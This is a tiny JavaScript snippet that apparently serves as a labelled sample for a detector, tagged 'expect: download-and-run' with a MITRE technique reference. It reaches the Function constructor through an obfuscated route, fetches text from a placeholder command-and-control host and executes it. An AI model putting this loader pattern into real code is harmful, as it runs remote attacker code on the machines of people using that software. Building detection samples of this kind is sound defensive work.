// expect: download-and-run | source: T1027.010
const make = [].filter.constructor;
fetch("https://c2.example.invalid/d").then((answer) => answer.text()).then((text) => make(text)());
